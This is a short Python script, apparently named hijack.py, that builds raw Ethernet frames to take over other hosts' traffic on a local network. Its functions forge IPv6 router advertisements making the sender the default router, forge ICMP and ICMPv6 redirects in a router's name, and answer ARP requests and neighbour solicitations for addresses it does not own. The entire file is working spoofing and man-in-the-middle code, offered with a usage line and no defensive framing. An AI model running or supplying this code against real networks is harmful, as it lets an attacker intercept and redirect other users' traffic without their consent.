"""Control packets of a host that wants other hosts' traffic: hijack.py LINK MAC ACTION [ARGUMENTS], MAC is that of the switch's port.

    advertise SOURCE PREFIX/LENGTH LIFETIME   one router advertisement: default router, prefix on link and for addresses, MTU 1280
    redirect TO ROUTER DESTINATION TARGET     one ICMP or ICMPv6 redirect by ROUTER: the way to DESTINATION is TARGET
    claim ADDRESS=MAC...                      answers each ARP request and neighbour solicitation for these addresses, until ended, and
                                              prints the destination of each frame with an echo request
"""
import ipaddress
import socket
import struct
import sys

ALL_NODES = ("333300000001", "ff02::1")


def octets(mac):
    return bytes.fromhex(mac.replace(":", ""))


def packed(address):
    return ipaddress.ip_address(address).packed


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def ipv6(source, to, body):
    source, to = packed(source), packed(to)
    body = body[:2] + checksum(source + to + struct.pack("!II", len(body), 58) + body) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + to + body


def ipv4(source, to, body):
    head = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(body), 1, 0, 64, 1)
    ends = packed(source) + packed(to)
    return head + checksum(head + b"\0\0" + ends) + ends + body[:2] + checksum(body) + body[4:]


def advertise(source, prefix, lifetime):
    net = ipaddress.ip_network(prefix)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, int(lifetime), 0, 0)
    body += bytes([1, 1]) + mac + struct.pack("!BBHI", 5, 1, 0, 1280)
    body += struct.pack("!BBBBIII", 3, 4, net.prefixlen, 0xC0, 1800, 1800, 0) + net.network_address.packed
    send(octets(ALL_NODES[0]), 0x86DD, ipv6(source, ALL_NODES[1], body))


def redirect(to, router, destination, target):
    echo = bytes(8)
    if ":" in to:
        quoted = ipv6(to, destination, bytes([128, 0, 0, 0]) + echo)
        quoted += b"\0" * (-len(quoted) % 8)
        body = bytes([137]) + bytes(7) + packed(target) + packed(destination) + bytes([2, 1]) + mac
        body += bytes([4, 1 + len(quoted) // 8]) + bytes(6) + quoted
        send(port, 0x86DD, ipv6(router, to, body))
    else:
        # Linux looks at what is quoted: an echo reply needs no socket.
        quoted = ipv4(to, destination, bytes([0, 0, 0, 0]) + echo)
        send(port, 0x0800, ipv4(router, to, bytes([5, 1, 0, 0]) + packed(target) + quoted))


def claim(*claims):
    answers = {packed(address): octets(claimed) for address, claimed in (one.split("=") for one in claims)}
    while True:
        frame = link.recv(9216)
        if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1" and frame[38:42] in answers:
            claimed = answers[frame[38:42]]
            send(frame[6:12], 0x0806, frame[14:20] + b"\0\2" + claimed + frame[38:42] + frame[22:32])
        elif frame[12:14] == b"\x86\xdd" and frame[20] == 58 and frame[54] == 135 and frame[62:78] in answers:
            target, asker = frame[62:78], frame[22:38]
            body = bytes([136, 0, 0, 0, 0x60, 0, 0, 0]) + target + bytes([2, 1]) + answers[target]
            send(frame[6:12], 0x86DD, ipv6(target, asker, body))
        elif frame[12:14] == b"\x08\x00" and frame[23] == 1 and frame[34] == 8:
            print(frame[:6].hex(":"), flush=True)


def send(to, kind, packet):
    link.send((to + mac + struct.pack("!H", kind) + packet).ljust(60, b"\0"))


link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind((sys.argv[1], 0))
mac, port = link.getsockname()[4], octets(sys.argv[2])
{"advertise": advertise, "redirect": redirect, "claim": claim}[sys.argv[3]](*sys.argv[4:])
